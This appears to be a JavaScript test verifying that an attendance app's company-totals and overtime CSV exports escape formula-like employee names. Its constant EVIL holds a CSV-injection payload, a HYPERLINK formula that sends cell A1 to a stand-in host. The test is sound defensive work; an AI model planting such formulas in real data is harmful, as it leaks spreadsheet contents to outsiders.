/**
 * Spreadsheet formulas in every CSV (docs/decisions/0024-only-the-worker-acts-as-the-worker.md):
 * an employee named `=HYPERLINK(...)` does not become a live link in the company's totals or the
 * overtime report a representative opens in a spreadsheet.
 */
import assert from 'node:assert/strict'
import { it } from 'node:test'
import { forEachEngine } from '../helpers/harness.js'
import { csvRows } from '../helpers/reports.js'

const EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'

forEachEngine('CSV cells', (t) => {
  it('the company totals and the overtime report CSV write a formula-like name as text', async () => {
    const tenant = await t.newTenant({ timezone: 'UTC' })
    const evil = await tenant.createUser({ full_name: EVIL, hire_date: '2026-01-01' })
    await tenant.createUser({ full_name: '@SUM(A1)', hire_date: '2026-01-01' })
    const company = await tenant.admin.request('GET', '/api/v1/attendance/reports/company?month=2026-10', undefined, {
      accept: 'text/csv',
    })
    assert.equal(company.status, 200)
    const rows = csvRows(String(company.body))
    const names = rows.map((row) => row.full_name)
    assert.ok(names.includes(`'${EVIL}`), JSON.stringify(names))
    assert.ok(names.includes(`'@SUM(A1)`))
    assert.ok(!names.includes(EVIL))
    assert.equal(rows.find((row) => row.user_id === evil.id)?.balance_minutes?.startsWith("'"), false)

    const overtime = await tenant.admin.request('GET', '/api/v1/overtime/reports/monthly?month=2026-10&format=csv')
    assert.equal(overtime.status, 200, String(overtime.body))
    assert.ok(
      !String(overtime.body)
        .split('\r\n')
        .some((line) => line.startsWith('=')),
    )
  })
})
